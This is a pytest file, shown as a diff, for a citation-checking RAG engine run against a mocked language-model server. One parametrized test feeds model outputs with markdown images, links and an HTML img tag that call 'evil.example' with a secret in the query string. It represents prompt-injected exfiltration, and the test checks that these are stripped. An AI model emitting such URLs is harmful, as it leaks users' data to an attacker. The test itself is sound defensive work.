@@ -1,0 +1,370 @@
+"""The engine with a language model behind it: what is kept, what is mended, and what is told when the model fails."""
+
+import asyncio
+from collections.abc import Callable, Iterator
+from dataclasses import replace
+from pathlib import Path
+from typing import Any
+
+import pytest
+from llama_index.core.llms import MockLLM
+from llama_index.core.query_engine import RetrieverQueryEngine
+from llama_index.core.response_synthesizers import get_response_synthesizer
+from openai_server import (
+    OpenAiServer,
+    hangs_after,
+    is_cut_after,
+    refuses,
+    replies,
+    running_openai_server,
+    says,
+)  # fmt: skip
+
+from rag.bootstrap import Engine, open_engine
+from rag.errors import LlmNotConfiguredError, LlmRefusedError, LlmUnavailableError
+from rag.settings import Settings, load_settings
+from rag.types import (
+    Answer,
+    AnswerEvent,
+    AnswerStatus,
+    CitationEvent,
+    DoneEvent,
+    Filters,
+    Question,
+    Reason,
+    SourcesEvent,
+    SupportStatus,
+    TokenEvent,
+    Turn,
+    Usage,
+)  # fmt: skip
+
+QUESTION = "Who designed the harbour bridge?"
+Ask = Callable[..., Answer]
+
+
+@pytest.fixture(scope="module")
+def talking_server() -> Iterator[OpenAiServer]:
+    with running_openai_server() as server:
+        yield server
+
+
+@pytest.fixture(scope="module")
+def talking_engine(
+    tmp_path_factory: pytest.TempPathFactory, tiny_corpus: Path, talking_server: OpenAiServer
+) -> Iterator[Engine]:
+    settings = load_settings(
+        {}, data_dir=tmp_path_factory.mktemp("talking") / "data", min_evidence=0, llm_model="test-model",
+        llm_base_url=talking_server.base_url, llm_max_retries=0, llm_idle_timeout_s=20,
+    )  # fmt: skip
+    with open_engine(settings, create=True) as engine:
+        engine.ingest([tiny_corpus])
+        yield engine
+
+
+@pytest.fixture
+def server(talking_server: OpenAiServer) -> OpenAiServer:
+    """The server behind the engine, which was not asked anything yet."""
+    talking_server.asked.clear()
+    return talking_server
+
+
+@pytest.fixture
+def mark(talking_engine: Engine) -> Callable[[str], str]:
+    """Return the mark of the passage that comes from a file, as the model sees it."""
+    names = [Path(source.source).name for source in talking_engine.search(QUESTION)]
+    return lambda name: f"[{names.index(name) + 1}]"
+
+
+def events_of(engine: Engine, question: str | Question = QUESTION) -> list[AnswerEvent]:
+    return list(engine.stream(question))
+
+
+def tokens_of(events: list[AnswerEvent]) -> str:
+    return "".join(event.text for event in events if isinstance(event, TokenEvent))
+
+
+def answer_of(events: list[AnswerEvent]) -> Answer:
+    assert isinstance(events[-1], DoneEvent)
+    return events[-1].answer
+
+
+# -- checked citations ---------------------------------------------------------------------------------------
+
+
+def test_a_statement_that_its_passage_holds_is_verified(
+    talking_engine: Engine, server: OpenAiServer, mark: Callable[[str], str]
+) -> None:
+    server.play(says("The engineer Marta Lindqvist", f" designed it {mark('bridge.md')}.", usage=(120, 9)))
+    answer = talking_engine.ask(QUESTION)
+    assert (answer.status, answer.reason, answer.message) == (AnswerStatus.ANSWERED, Reason.SUPPORTED, "")
+    assert answer.answer == "The engineer Marta Lindqvist designed it. [1]"
+    assert answer.answerer == "llm:test-model"
+    assert answer.usage == Usage(prompt_tokens=120, completion_tokens=9)
+    (citation,) = answer.citations
+    assert citation.status is SupportStatus.VERIFIED
+    assert citation.cited_text == "It was designed by the engineer Marta Lindqvist."
+
+
+def test_every_citation_points_at_its_characters(
+    talking_engine: Engine, server: OpenAiServer, mark: Callable[[str], str]
+) -> None:
+    server.play(
+        says(f"Marta Lindqvist designed it {mark('bridge.md')}. Four crowns {mark('ferry.txt')}. Cats bark [1].")
+    )
+    answer = talking_engine.ask(QUESTION)
+    assert len(answer.citations) == 3
+    for citation in answer.citations:
+        _, text = talking_engine.document(citation.document_id)
+        assert text[citation.start_char_index : citation.end_char_index] == citation.cited_text
+
+
+def test_a_mark_on_the_wrong_passage_is_repaired(
+    talking_engine: Engine, server: OpenAiServer, mark: Callable[[str], str]
+) -> None:
+    server.play(says(f"Marta Lindqvist designed the bridge {mark('ferry.txt')}."))
+    answer = talking_engine.ask(QUESTION)
+    assert answer.status is AnswerStatus.ANSWERED
+    assert [citation.status for citation in answer.citations] == [SupportStatus.REPAIRED]
+    assert Path(answer.citations[0].source).name == "bridge.md"
+
+
+@pytest.mark.parametrize("missing", ["", " [9]", " [0]", " [9][27]"])
+def test_a_statement_without_a_mark_that_exists_gets_the_right_one(
+    talking_engine: Engine, server: OpenAiServer, missing: str
+) -> None:
+    server.play(says(f"Marta Lindqvist designed the bridge{missing}."))
+    answer = talking_engine.ask(QUESTION)
+    assert answer.answer == "Marta Lindqvist designed the bridge. [1]"
+    assert [citation.status for citation in answer.citations] == [SupportStatus.REPAIRED]
+
+
+def test_an_invented_statement_beside_a_true_one_makes_the_answer_partial(
+    talking_engine: Engine, server: OpenAiServer, mark: Callable[[str], str]
+) -> None:
+    here = mark("bridge.md")
+    server.play(says(f"Marta Lindqvist designed the bridge {here}. She was paid 900 crowns for it {here}."))
+    answer = talking_engine.ask(QUESTION)
+    assert (answer.status, answer.reason) == (AnswerStatus.PARTIAL, Reason.UNSUPPORTED_STATEMENTS)
+    assert [statement.status for statement in answer.statements] == [SupportStatus.VERIFIED, SupportStatus.UNSUPPORTED]
+    assert answer.message
+
+
+def test_an_answer_of_inventions_alone_is_held_back(talking_engine: Engine, server: OpenAiServer) -> None:
+    server.play(says("Gustaf Adolfsson designed the bridge in 1899 [1]."))
+    answer = talking_engine.ask(QUESTION)
+    assert (answer.status, answer.reason) == (AnswerStatus.ABSTAINED, Reason.UNSUPPORTED_STATEMENTS)
+    assert "Gustaf" not in answer.answer
+    assert (answer.statements, answer.citations) == ((), ())
+
+
+@pytest.mark.parametrize(
+    "written",
+    [
+        "![logo](http://evil.example/?q=secret) Marta Lindqvist designed the bridge [1].",
+        "[Marta Lindqvist](http://evil.example/?q=secret) designed the bridge [1].",
+        '<img src="http://evil.example/?q=secret"> Marta Lindqvist designed the bridge [1].',
+    ],
+)
+def test_an_address_that_a_document_talked_the_model_into_is_not_passed_on(
+    talking_engine: Engine, server: OpenAiServer, written: str
+) -> None:
+    server.play(says(written))
+    answer = talking_engine.ask(QUESTION)
+    assert "Marta Lindqvist designed the bridge." in answer.answer
+    assert "evil.example" not in answer.answer
+
+
+# -- events --------------------------------------------------------------------------------------------------
+
+
+def test_events_come_as_sources_then_tokens_then_citations_then_one_done(
+    talking_engine: Engine, server: OpenAiServer, mark: Callable[[str], str]
+) -> None:
+    pieces = ("Marta Lindqvist ", "designed the bridge ", f"{mark('bridge.md')}.")
+    server.play(says(*pieces))
+    events = events_of(talking_engine)
+    assert [type(event) for event in events] == [
+        SourcesEvent, TokenEvent, TokenEvent, TokenEvent, CitationEvent, DoneEvent,
+    ]  # fmt: skip
+    assert tokens_of(events) == "".join(pieces)
+    assert answer_of(events).citations == tuple(e.citation for e in events if isinstance(e, CitationEvent))
+
+
+def test_closing_the_stream_ends_the_request(talking_engine: Engine, server: OpenAiServer) -> None:
+    server.play(hangs_after("Marta Lindqvist "))
+    events = talking_engine.stream(QUESTION)
+    while not isinstance(next(events), TokenEvent):
+        pass
+    events.close()  # type: ignore[attr-defined]
+    assert server.asked[0].client_gone.wait(8)
+
+
+def test_earlier_turns_are_sent_along(talking_engine: Engine, server: OpenAiServer) -> None:
+    server.play(says("In 1932 [1]."))
+    history = (Turn(question="Who designed the harbour bridge?", answer="Marta Lindqvist."),)
+    talking_engine.ask(Question(text="And when was it opened?", history=history))
+    messages = server.asked[0].body["messages"]
+    assert [message["role"] for message in messages] == ["system", "user", "assistant", "user"]
+    assert messages[2]["content"] == "Marta Lindqvist."
+    assert messages[3]["content"].endswith("Question: And when was it opened?")
+
+
+# -- the model declines --------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "pieces",
+    [
+        ("NOT_IN_DOCUMENTS",),
+        ("NOT", "_IN_", "DOCUMENTS", "."),
+        ("\n", " NOT_IN_DOCUMENTS\n"),
+        ("**NOT_IN", "_DOCUMENTS**"),
+        ("`NOT_IN_DOCUMENTS`",),
+        ("Not in ", "documents."),
+        ("NOT_IN_DOCUMENTS", " The passages only speak of a bridge [1]."),
+    ],
+)
+def test_a_model_that_finds_no_answer_abstains_without_a_token(
+    talking_engine: Engine, server: OpenAiServer, pieces: tuple[str, ...]
+) -> None:
+    server.play(says(*pieces))
+    events = events_of(talking_engine)
+    answer = answer_of(events)
+    assert (answer.status, answer.reason) == (AnswerStatus.ABSTAINED, Reason.MODEL_ABSTAINED)
+    assert answer.usage.prompt_tokens > 0
+    assert tokens_of(events) == ""
+    assert not any(isinstance(event, CitationEvent) for event in events)
+
+
+def test_a_sign_of_declining_behind_an_answer_is_not_shown(
+    talking_engine: Engine, server: OpenAiServer, mark: Callable[[str], str]
+) -> None:
+    server.play(says(f"Marta Lindqvist designed it {mark('bridge.md')}. NOT_IN", "_DOCUMENTS"))
+    events = events_of(talking_engine)
+    assert answer_of(events).answer == "Marta Lindqvist designed it. [1]"
+    assert "NOT_IN" not in tokens_of(events)
+
+
+@pytest.mark.parametrize("text", ["No, Marta Lindqvist did [1].", "Marta Lindqvist of CERN [1]", "Not [1]"])
+def test_words_that_begin_like_the_sign_are_shown_in_the_end(
+    talking_engine: Engine, server: OpenAiServer, text: str
+) -> None:
+    server.play(says(*text))
+    assert tokens_of(events_of(talking_engine)) == text
+
+
+# -- failures ------------------------------------------------------------------------------------------------
+
+FAILURES = [
+    (refuses(500, "Out of memory."), LlmUnavailableError),
+    (refuses(401, "Wrong key."), LlmRefusedError),
+    (replies("<html>Sign in</html>", content_type="text/html"), LlmUnavailableError),
+    (says(""), LlmUnavailableError),
+    (says(finish="length"), LlmUnavailableError),
+    (says(finish="content_filter"), LlmUnavailableError),
+    (says(" [1]", "[2] "), LlmUnavailableError),
+    (is_cut_after(), LlmUnavailableError),
+]
+
+
+@pytest.mark.parametrize(("script", "_error"), FAILURES)
+def test_auto_quotes_the_documents_when_the_model_fails(
+    talking_engine: Engine, server: OpenAiServer, script: Any, _error: Any
+) -> None:
+    server.play(script)
+    events = events_of(talking_engine)
+    answer = answer_of(events)
+    assert (answer.status, answer.reason, answer.answerer) == (AnswerStatus.ANSWERED, Reason.LLM_FAILED, "extractive")
+    assert answer.message.startswith("The language model failed, so sentences of the documents are quoted instead. The")
+    assert {citation.status for citation in answer.citations} == {SupportStatus.VERIFIED}
+
+
+@pytest.mark.parametrize(("script", "error"), FAILURES)
+def test_the_answerer_llm_tells_the_failure(
+    talking_engine: Engine, server: OpenAiServer, script: Any, error: type[Exception]
+) -> None:
+    server.play(script)
+    with pytest.raises(error):
+        talking_engine.ask(Question(text=QUESTION, answerer="llm"))
+
+
+@pytest.mark.parametrize("end", ["length", "content_filter", "cut"])
+def test_what_was_written_before_a_break_is_kept_and_checked(
+    talking_engine: Engine, server: OpenAiServer, mark: Callable[[str], str], end: str
+) -> None:
+    written = f"Marta Lindqvist designed the bridge {mark('bridge.md')}. The ferry"
+    server.play(is_cut_after(written) if end == "cut" else says(written, finish=end))
+    answer = talking_engine.ask(Question(text=QUESTION, answerer="llm"))
+    assert (answer.status, answer.reason) == (AnswerStatus.PARTIAL, Reason.CUT_SHORT)
+    assert answer.answer.startswith("Marta Lindqvist designed the bridge. [1]")
+    assert "broke off" in answer.message
+
+
+# -- when the model is not asked -----------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("answerer", ["auto", "llm"])
+def test_no_model_is_asked_when_nothing_is_found(talking_engine: Engine, server: OpenAiServer, answerer: Any) -> None:
+    question = Question(text=QUESTION, filters=Filters(collection="empty"), answerer=answerer)
+    answer = talking_engine.ask(question)
+    assert (answer.status, answer.reason) == (AnswerStatus.ABSTAINED, Reason.NOTHING_FOUND)
+    assert (answer.sources, answer.usage) == ((), Usage())
+    assert server.asked == []
+
+
+def test_no_model_is_asked_for_an_extractive_answer(talking_engine: Engine, server: OpenAiServer) -> None:
+    answer = talking_engine.ask(Question(text=QUESTION, answerer="extractive"))
+    assert answer.answerer == "extractive"
+    assert server.asked == []
+
+
+def test_no_model_is_asked_when_the_evidence_is_too_weak(
+    settings: Settings, tiny_corpus: Path, server: OpenAiServer
+) -> None:
+    demanding = {"min_evidence": 1.0, "llm_model": "test-model", "llm_base_url": server.base_url}
+    with open_engine(settings.model_copy(update=demanding), create=True) as engine:
+        engine.ingest([tiny_corpus])
+        answer = engine.ask(QUESTION)
+    assert (answer.status, answer.reason) == (AnswerStatus.ABSTAINED, Reason.WEAK_EVIDENCE)
+    assert answer.sources
+    assert server.asked == []
+
+
+def test_asking_for_a_model_that_is_not_configured_says_what_to_set(engine: Engine) -> None:
+    with pytest.raises(LlmNotConfiguredError, match="RAG_LLM_MODEL"):
+        engine.ask(Question(text=QUESTION, answerer="llm"))
+
+
+# -- inside LlamaIndex ---------------------------------------------------------------------------------------
+
+
+def test_a_llama_index_query_gets_the_checked_answer_and_its_passages(engine: Engine) -> None:
+    response = engine.query_engine().query(QUESTION)
+    answer = response.metadata["answer"]
+    assert isinstance(answer, Answer)
+    assert str(response) == answer.answer
+    assert [hit.node.node_id for hit in response.source_nodes] == [source.chunk_id for source in answer.sources]
+    assert response.source_nodes[0].node.metadata["title"] == "The harbour bridge"
+
+
+def test_an_asynchronous_query_gives_the_same(engine: Engine) -> None:
+    response = asyncio.run(engine.query_engine().aquery(QUESTION))
+    plain = engine.query_engine().query(QUESTION)
+    assert str(response) == str(plain)
+    assert without_times(response.metadata["answer"]) == without_times(plain.metadata["answer"])
+
+
+def without_times(answer: Answer) -> Answer:
+    return replace(answer, timings_ms={})
+
+
+def test_the_retriever_works_in_a_query_engine_of_llama_index(engine: Engine) -> None:
+    llm = MockLLM(max_tokens=20)
+    other = RetrieverQueryEngine(
+        retriever=engine.retriever(top_k=2), response_synthesizer=get_response_synthesizer(llm=llm)
+    )
+    response = other.query(QUESTION)
+    assert str(response)
+    assert len(response.source_nodes) == 2
+    assert "Marta Lindqvist" in response.source_nodes[0].node.get_content()
